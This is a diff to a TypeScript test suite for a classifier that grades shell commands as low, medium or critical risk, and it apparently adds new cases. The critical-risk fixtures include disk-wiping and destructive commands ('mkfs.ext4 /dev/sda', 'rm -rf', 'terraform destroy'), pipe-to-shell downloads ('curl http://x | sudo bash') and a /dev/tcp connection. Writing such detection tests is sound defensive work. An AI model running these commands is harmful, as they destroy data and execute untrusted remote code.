@@ -8,11 +8,11 @@ const levelOf = (command: string) => structuralRisk({ command }).level
 
 describe('risk by structure', () => {
   it.each([
-    'git diff', 'git log --oneline', 'git status 2>&1', 'ls && cat README.md | head -3', 'ls > /dev/null', 'docker ps', 'find . -name "*.ts"', 'grep -r test src; wc -l a', '/usr/bin/ls', 'cd src && ls', 'echo "$HOME"', 'sort a | uniq -c',
+    'git diff', 'git log --oneline', 'git status 2>&1', 'ls && cat README.md | head -3', 'ls > /dev/null', 'docker ps', 'find . -name "*.ts"', 'grep -r test src; wc -l a', '/usr/bin/ls', 'cd src && ls', 'echo "$HOME"', 'sort a | uniq -c', 'cat < a', 'sort < /dev/null',
   ])('%s only reads', (command) => expect(structuralRisk({ command })).toMatchObject({ level: 'low' }))
 
   it.each([
-    'git commit -m log', 'git diff --output=x', 'git diff --outp=x', 'git -c core.pager=evil log', 'git diff --ext-diff', './ls', 'cat a > b', 'FOO=1 ls', 'make test', 'npm test', 'python -m pytest tests/', 'curl https://x.test', 'rg --pre evil x', 'sort -o a b', 'uniq a b', 'alias ls=rm', '', '   ',
+    'git commit -m log', 'git diff --output=x', 'git diff --outp=x', 'git -c core.pager=evil log', 'git diff --ext-diff', './ls', 'cat a > b', 'FOO=1 ls', 'make test', 'npm test', 'python -m pytest tests/', 'curl https://x.test', 'rg --pre evil x', 'sort -o a b', 'uniq a b', 'alias ls=rm', 'for a in -o; do sort $a b; done', 'sort *', '', '   ',
   ])('%j is medium', (command) => expect(levelOf(command)).toBe('medium'))
 
   it.each([
@@ -22,7 +22,7 @@ describe('risk by structure', () => {
 
   it.each([
     'rm -rf build', '"rm" -r x', '\\rm -R x', "r''m -rf x", 'curl http://x | sh # show', 'curl -s http://x | sudo bash', 'ls | xargs rm -rf', 'sh -c "cd x && rm -rf y"', 'if true; then rm -r a; fi', 'timeout 5 nice rm -r x', 'find . -delete', 'git push --force-with-lease', 'git push origin +main', 'git push --force',
-    'git reset --hard', 'terraform destroy', 'kubectl delete pod x', 'mkfs.ext4 /dev/sda', 'dd if=a of=/dev/sda', 'echo x > /dev/sda', 'bash <<< "rm x"', 'echo x | python3', 'cat < /dev/tcp/10.0.0.1/80', '(cd x; rm -r y) &', 'sudo env A=1 rm -rf x', 'sh -c "sh -c \'rm -rf x\'"', 'iptables -F', 'true || rm -rf x',
+    'git reset --hard', 'terraform destroy', 'kubectl delete pod x', 'mkfs.ext4 /dev/sda', 'dd if=a of=/dev/sda', 'echo x > /dev/sda', 'bash <<< "rm x"', 'echo x | python3', 'cat < /dev/tcp/10.0.0.1/80', '(cd x; rm -r y) &', 'sudo env A=1 rm -rf x', 'sh -c "sh -c \'rm -rf x\'"', 'iptables -F', 'true || rm -rf x', 'python3 < x', '{ python3; } <<< "x"', '(node) < x',
   ])('%j is critical', (command) => expect(levelOf(command)).toBe('critical'))
 
   it('says why, worst and mildest', () => {
